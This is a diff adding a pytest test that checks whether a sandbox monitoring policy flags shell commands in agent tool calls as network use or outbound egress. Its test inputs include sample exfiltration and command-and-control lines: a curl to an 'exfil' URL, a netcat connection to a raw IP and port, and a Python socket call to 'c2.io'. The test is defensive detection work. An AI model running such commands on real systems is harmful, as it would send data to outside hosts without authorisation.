@@ -79,3 +79,31 @@ def test_bad_rules_are_refused_with_file_rule_and_reason(tmp_path: Path, rule: s
     rule_id = rule.split("id: ")[1].split(",")[0]
     if "Extra inputs" not in reason and "compile" not in reason:
         assert repr(rule_id) in message
+
+
+@pytest.mark.parametrize(
+    "command, bwrap, container",
+    [
+        # A CTF's own service on the sample's private network: the task, in a container.
+        ("curl http://victim:8080/flag", {"network-tool"}, set()),
+        (
+            "python3 -c \"import urllib.request; urllib.request.urlopen('http://victim:8080/')\"",
+            {"network-tool"},
+            set(),
+        ),
+        # Beyond the sample: an address or a dotted host name.
+        ("curl http://example.com/exfil", {"network-tool"}, {"network-egress"}),
+        ("nc 203.0.113.7 4444", {"network-tool"}, {"network-egress"}),
+        (
+            "python3 -c 'import socket; socket.create_connection((\"c2.io\", 443))'",
+            {"network-tool"},
+            {"network-egress"},
+        ),  # fmt: skip
+        ("cat notes.txt | sort -u > sorted.txt", set(), set()),
+    ],
+)
+def test_network_rules_follow_the_sandbox_the_tools_run_in(command, bwrap, container):
+    rules = baseline_policy().watching("tool_call")
+    for sandbox, expected in (("bwrap", bwrap), ("container", container)):
+        hits = {r.id for r in rules if r.matches_text("bash", command, sandbox)}
+        assert hits == expected, (sandbox, command)
